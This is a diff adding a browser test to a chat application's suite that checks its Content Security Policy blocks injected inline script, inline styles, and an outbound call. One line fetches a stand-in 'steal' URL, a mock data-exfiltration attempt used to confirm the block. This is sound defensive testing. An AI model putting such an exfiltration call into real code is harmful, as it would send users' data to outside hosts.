@@ -302,3 +302,29 @@ async def test_history_scrolls_back_page_by_page(browser: Browser, chatd: Chatd)
     await expect(bob.page.locator("#history-status")).to_have_text(
         "the beginning of the conversation")
     no_errors(bob)
+
+
+async def test_the_browser_enforces_the_page_policy(browser: Browser, chatd: Chatd) -> None:
+    """Even script that got into the page could not run inline or call out."""
+    page = await ChatPage.open(browser, chatd.base, "mallory")
+    ran = await page.page.evaluate("""() => {
+        const s = document.createElement("script");
+        s.textContent = "window.injected = true";
+        document.head.append(s);
+        return window.injected === true;
+    }""")
+    assert ran is False
+    called_out = await page.page.evaluate("""async () => {
+        try { await fetch("http://example.invalid/steal"); return true; }
+        catch (err) { return false; }
+    }""")
+    assert called_out is False
+    styled = await page.page.evaluate("""() => {
+        const el = document.createElement("div");
+        el.setAttribute("style", "display: none");
+        document.body.append(el);
+        return getComputedStyle(el).display;
+    }""")
+    assert styled != "none"  # no inline style either
+    refused = [e for e in page.errors if "Content Security Policy" in e]
+    assert len(refused) >= 3, page.errors
